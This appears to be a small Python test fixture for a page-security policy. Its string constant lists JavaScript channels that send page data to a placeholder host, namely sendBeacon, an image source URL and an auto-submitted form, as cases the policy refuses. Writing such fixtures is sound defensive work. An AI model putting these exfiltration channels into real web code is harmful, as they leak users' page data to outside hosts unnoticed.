"""What a script of a page might send away by, whatever the page may hold; a policy refuses all of it."""

WAYS_OUT = """
  navigator.sendBeacon("https://example.invalid/", "answer");
  const picture = new Image();
  picture.src = "https://example.invalid/answer.png";
  const form = document.createElement("form");
  form.action = "https://example.invalid/";
  document.body.append(form);
  form.submit();
"""
